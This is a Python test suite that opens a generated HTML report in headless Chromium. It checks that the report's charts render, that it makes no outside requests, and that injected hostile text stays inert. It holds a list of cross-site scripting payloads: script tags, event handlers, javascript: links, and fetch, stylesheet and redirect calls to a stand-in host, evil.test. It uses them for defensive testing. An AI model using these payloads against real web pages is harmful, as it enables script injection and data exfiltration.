"""The report in a real browser: it draws, it calls nobody, and hostile text does nothing."""

import itertools
import json
import shutil
from dataclasses import dataclass, field, replace

import pytest
from pydantic import ValidationError

from reports.contents import Found
from reports.report import html_of
from tests.reports import records

CHROMIUM = shutil.which("chromium")

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
]

_CALLS = ("alert(1)", "fetch('https://evil.test/')", "window.hit=1")
_FRAMES = (
    "<script>{}</script>", '"><img src=x onerror="{}">', "'><svg onload={}>", "</script><script>{}</script>",
    "</td></table><iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>",
    "$\\href{{javascript:{}}}{{x}}$", "$$\\class{{x}}{{\\href{{javascript:{}}}{{y}}}}$$", "<!--<script>{}",
    "\x1b]8;;javascript:{}\x07x\x1b[31m", "{{{{ {} }}}}", "%{{customdata}}<b onmouseover={}>x</b>",
    "]]><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "\u202e<style>@import'https://evil.test/{}';</style>",
    "<link rel=stylesheet href=https://evil.test/?{}>", "<meta http-equiv=refresh content='0;url=https://evil.test/{}'>",
    "<base href=https://evil.test/?{}>", "<form action=https://evil.test/?{}><button autofocus>", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
PAYLOADS = [frame.format(call) for frame in _FRAMES for call in _CALLS]


@dataclass
class Visit:
    """What a page did while it was open."""

    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield launched
        launched.close()


@pytest.fixture
def visit(browser, tmp_path):
    """Opens a page and waits until it is drawn; gives the page and what it did."""
    contexts = []

    def opened(html, *, width=1280, bypass_csp=False):
        path = tmp_path / "report.html"
        path.write_text(html)
        context = browser.new_context(
            viewport={"width": width, "height": 900}, bypass_csp=bypass_csp
        )
        contexts.append(context)
        page, seen = context.new_page(), Visit()
        page.on("dialog", lambda dialog: (seen.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: seen.requests.append(request.url))
        page.on("console", lambda message: seen.complaints.append(message.text))
        page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        page.goto(path.as_uri())
        page.wait_for_function(
            "document.querySelectorAll('.plot').length"
            " === document.querySelectorAll('.plot .main-svg:first-of-type').length"
        )
        seen.requests.remove(path.as_uri())
        return page, seen

    yield opened
    for context in contexts:
        context.close()


def hostile(contents):
    """Every free-text field of every part holds the next payload; also how many were placed."""
    payloads = itertools.cycle(PAYLOADS)
    placed = 0

    def poisoned(record):
        nonlocal placed
        tree = record.model_dump(mode="json")
        for holder, key in list(_strings(tree)):
            kept = holder[key]
            holder[key] = next(payloads)
            try:
                type(record).model_validate_json(json.dumps(tree))
                placed += 1
            except ValidationError:
                holder[key] = kept
        return type(record).model_validate_json(json.dumps(tree))

    parts = {}
    for name, part in contents.parts.items():
        assert isinstance(part, Found)
        value = part.value
        # Three runs say as much as all of them, in a third of the time.
        poison = tuple(map(poisoned, value[:3])) if isinstance(value, tuple) else poisoned(value)
        parts[name] = replace(part, value=poison, source=next(payloads))
    return replace(contents, made_at=next(payloads), **parts), placed


def _strings(tree):
    items = tree.items() if isinstance(tree, dict) else enumerate(tree)
    for key, value in items:
        if isinstance(value, str):
            yield tree, key
        elif isinstance(value, dict) or (isinstance(value, list) and not _is_numeric(value)):
            yield from _strings(value)


def _is_numeric(values):
    return bool(values) and isinstance(values[0], int | float)


def assert_drawn(page):
    undrawn = page.evaluate(
        "[...document.querySelectorAll('.plot')].filter("
        " (plot) => !plot.querySelector('svg .trace, svg .points, svg .hm image')).map((p) => p.id)"
    )
    assert undrawn == []


@pytest.mark.parametrize(("language", "width"), [("en", 400), ("ja", 1280)])
def test_the_report_draws_every_figure_and_calls_nobody(visit, language, width, tmp_path):
    page, seen = visit(html_of(records.full_contents(), language), width=width)
    assert page.evaluate("document.querySelectorAll('.plot').length") == 19
    assert_drawn(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    shot = tmp_path / f"report-{language}-{width}.png"
    page.screenshot(path=shot, full_page=True)
    assert shot.stat().st_size > 50_000
    assert seen == Visit()


@pytest.mark.parametrize(("language", "bypass_csp"), [("en", True), ("ja", False)])
def test_hostile_text_does_nothing_even_without_the_content_policy(visit, language, bypass_csp):
    contents, placed = hostile(records.full_contents())
    assert placed > len(PAYLOADS) >= 60
    page, seen = visit(html_of(contents, language), bypass_csp=bypass_csp)
    assert_drawn(page)
    page.wait_for_timeout(300)
    assert seen == Visit()
    assert page.evaluate("window.hit") is None
    strangers = (
        "img, iframe, link, base, form, object, embed, main style, main [href], [onload], [onerror]"
    )
    assert page.evaluate(f"document.querySelectorAll({strangers!r}).length") == 0
    scripts = "[...document.scripts].filter((script) => script.type !== 'application/json').length"
    assert page.evaluate(scripts) == 2
    assert page.evaluate("[...document.querySelectorAll('svg a')].length") == 0


def test_a_script_that_slips_in_would_not_run(visit):
    html = html_of(records.full_contents(), "en")
    intruders = "<script>alert(1)</script><img src='https://evil.test/x' onerror='alert(2)'>"
    page, seen = visit(html.replace("</main>", intruders + "</main>"))
    page.wait_for_timeout(300)
    assert seen.dialogs == []
    assert len(seen.complaints) >= 2
    assert all("Content Security Policy" in words for words in seen.complaints)


def test_charts_fit_on_paper(visit):
    page, _ = visit(html_of(records.full_contents(), "en"))
    page.set_viewport_size({"width": 1040, "height": 720})
    page.emulate_media(media="print")
    page.wait_for_timeout(500)
    overflowing = (
        "[...document.querySelectorAll('.plot')].filter((plot) =>"
        " plot.querySelector('svg').getBoundingClientRect().right > 1041).length"
    )
    assert page.evaluate(overflowing) == 0
